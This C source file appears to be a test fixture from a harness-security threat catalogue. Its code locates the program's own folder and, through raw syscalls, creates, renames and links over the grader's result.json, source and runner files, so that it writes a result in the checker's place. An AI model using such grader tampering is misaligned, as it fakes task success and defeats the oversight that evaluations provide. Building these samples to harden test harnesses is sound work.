// Attack: writes a result in the place of the checker
// Threat: F.3 #31
// Gets: below
// Code: EXIT
// Says: ended itself with status 77
// Machine: x86_64
// Rest: rest.c
#define HIDDEN
#define MORE(CALL) CALL(82) CALL(86) CALL(89)
#include <stdio.h>
static long hidden(int number, long a, long b, long c);

static void write_result(void)
{
    // readlink: where the program is; its folder is a step below the result.
    static char self[4096], path[4200];
    int done = 0;
    if (hidden(89, (long)"/proc/self/exe", (long)self, 4000) <= 0)
        hidden(231, 1, 0, 0);
    static const char *const names[] = {"../result.json", "../source/nursery.c",
                                        "nursery.c.o", "sealed.o", "runner"};
    for (int i = 0; i < 5; i++) {
        *strrchr(self, '/') = 0;
        snprintf(path, sizeof(path), "%s/%s", self, names[i]);
        strcat(self, "/");
        // open for writing, made if it is not there; rename; link
        done += hidden(2, (long)path, 0101, 0666) >= 0;
        done += hidden(82, (long)path, (long)"gone", 0) == 0;
        done += hidden(86, (long)path, (long)"gone", 0) == 0;
    }
    // 77: nothing was done.
    hidden(231, done > 0 ? 1 : 77, 0, 0);
}
#define AT_CLOSE write_result()
